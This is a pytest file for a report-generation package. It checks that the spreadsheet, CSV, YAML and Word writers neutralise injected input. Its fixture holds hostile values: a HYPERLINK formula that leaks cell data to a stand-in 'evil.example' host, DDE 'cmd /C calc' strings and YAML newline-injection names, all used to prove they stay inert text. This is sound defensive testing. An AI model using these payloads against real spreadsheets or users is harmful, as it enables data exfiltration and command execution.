"""Writers that cannot be injected: xlsx string cells (never formulas), CSV formula neutralising, params emitted
by the YAML emitter (a newline in a name injects nothing), Office files without characters XML forbids."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
import yaml

from xxgk import form_layout as L
from xxgk.export import write_csv
from xxgk.model import Cell, Extension, ExtensionRow
from xxgk.params import loads_params
from xxgk.params_write import dump_params
from xxgk.validate import one_line

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def hostile(sample):
    """The sample with formula payloads in every text a form carries."""
    sample.agency.name = PAYLOAD
    sample.preamble = "+cmd|' /C calc'!A0"
    sample.sections["s1"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    sample.section_titles["s6"] = "=1+1"
    sample.extensions.append(Extension("evil", PAYLOAD, "s6", [PAYLOAD, "-2+3"], [ExtensionRow("=A1", ["@x"])]))
    sample.cells["t3.granted.total"] = Cell(5, "value", None, "=HYPERLINK(\"x\")")
    return sample


def test_form_user_text_is_string_cells(hostile, tmp_path):
    from xxgk.render.excel import write_form

    path = write_form(hostile, tmp_path / "f.xlsx")
    wb = openpyxl.load_workbook(path)
    ext = wb[L.extension_sheet(1)]
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value[:1] in "=+-@" and c.data_type != "f":
                    seen[f"{ws.title}!{c.coordinate}"] = (c.value, c.data_type)
    assert ext["A1"].value == PAYLOAD and ext["A1"].data_type == "s"  # the extension title
    assert ext[L.addr(L.FIRST_ROW - 1, 1)].data_type == "s"  # a column header
    assert ext[L.addr(L.FIRST_ROW, 1)].value == "=A1" and ext[L.addr(L.FIRST_ROW, 1)].data_type == "s"
    assert wb[L.INFO_SHEET][L.info_address("agency.name")].data_type == "s"
    assert all(t == "s" for _, t in seen.values()) and len(seen) >= 6
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" and ("HYPERLINK" in str(c.value) or "cmd" in str(c.value))]  # fmt: skip
    assert formulas == []
    with zipfile.ZipFile(path) as z:  # no <f> element carries the payload in any sheet's XML
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>HYPERLINK" not in xml and "<f>A1" not in xml


def test_form_reads_back_the_payload_as_text(hostile, tmp_path):
    from xxgk.ingest.xlsx import read_form
    from xxgk.render.excel import write_form

    back = read_form(write_form(hostile, tmp_path / "f.xlsx"))
    assert back.agency.name == PAYLOAD and back.extensions[1].title == PAYLOAD
    assert back.section_titles["s6"] == "=1+1"


def test_cells_csv_neutralises_formulas(hostile):
    hostile.agency.id = "evil"
    buf = io.StringIO()
    write_csv([hostile], buf)
    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
    assert {r["agency_name"] for r in rows} == {"'" + PAYLOAD}
    assert all(not r[k].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for k in ("agency_name", "label_path"))
    signed = next(r for r in rows if r["cell_id"] == "t2.licensing.change")
    assert signed["value"] == "0"  # the value column stays a plain number


@pytest.mark.parametrize("name", ["=cmd", "+1", "-1", "@x", "\tx", "\rx"])
def test_csv_triggers(sample, name):
    from xxgk.validate import csv_safe

    assert csv_safe(name) == "'" + name and csv_safe("余姚市") == "余姚市" and csv_safe(5) == 5


def test_site_open_data_is_neutralised(hostile, tmp_path):
    from xxgk.site.data import write_open_data

    hostile.agency.id = "evil"
    csv_path, _ = write_open_data(tmp_path, [hostile])
    text = csv_path.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and '"=HYPERLINK' not in text


@pytest.mark.parametrize("name", [
    "余姚市商务局\nyear: 1999",
    "余姚市商务局\n  level: 省级政府",
    "余姚市商务局\r\nformat: '2021'",
    "余姚市商务局\u2028year: 1999",
    "余姚市商务局\x85year: 1999",
    "余姚 # comment\n- x",
    '"quoted": yes',
])  # fmt: skip
def test_params_name_with_newline_injects_nothing(sample, name):
    sample.agency.name = name
    sample.signature.agency = name
    text = dump_params(sample)
    back = loads_params(text, "p.yaml")
    expected = name.replace("\r\n", "\n").replace("\u2028", "\n").replace("\x85", "")
    assert back.agency.name == expected and back.signature.agency == expected
    assert back.year == 2020 and back.format_id == "2019" and back.agency.level == sample.agency.level
    assert set(yaml.safe_load(text)) == {k for k in yaml.safe_load(dump_params(loads_params(text)))}
    assert "year: 1999" not in [ln.strip() for ln in text.splitlines()]
    first = text.splitlines()[0]
    assert first == "# " + one_line(back.title) and first.endswith("2020年政府信息公开工作年度报告")


def test_params_extension_fields_are_quoted(sample):
    sample.extensions[0].title = "表\nnumbered: false"
    sample.extensions[0].columns = ["a\n- b", "单位", "统计数"]
    sample.extensions[0].rows[0].label = "甲]\n  evil: 1"
    back = loads_params(dump_params(sample), "p.yaml")
    assert back.extensions[0].title == "表\nnumbered: false" and back.extensions[0].numbered is True
    assert back.extensions[0].columns[0] == "a\n- b" and back.extensions[0].rows[0].label == "甲]\n  evil: 1"


def test_params_writer_strips_what_the_loader_refuses(sample):
    sample.agency.name = "余姚\u200b市\u202e商务局\x07"
    sample.sections["s1"] = "正文\u2066一\x00"
    back = loads_params(dump_params(sample), "p.yaml")
    assert back.agency.name == "余姚市商务局" and back.sections["s1"] == "正文一"


def test_docx_gets_no_forbidden_characters(sample, tmp_path):
    import docx

    from xxgk.render.docx import write_docx

    sample.agency.name = "余姚\x07市商务局\x1b" + "局" * 300
    sample.sections["s1"] = "正文\x00\x0b\u202e一"
    sample.extensions[0].title = "表\x01"
    path = write_docx(sample, tmp_path / "r.docx")
    d = docx.Document(str(path))
    assert len(d.core_properties.title) == 255 and "\x07" not in d.core_properties.title
    text = "\n".join(p.text for p in d.paragraphs)
    assert "正文一" in text and "\x00" not in text and "\u202e" not in text
    assert sample.agency.name.startswith("余姚\x07")  # the caller's report is not changed


def test_form_gets_no_forbidden_characters(sample, tmp_path):
    from xxgk.render.excel import write_form

    sample.agency.name = "余姚\x07市商务局"
    sample.sections["s2"] = "正文\x00一"
    wb = openpyxl.load_workbook(write_form(sample, tmp_path / "f.xlsx"))
    assert wb[L.INFO_SHEET][L.info_address("agency.name")].value == "余姚市商务局"
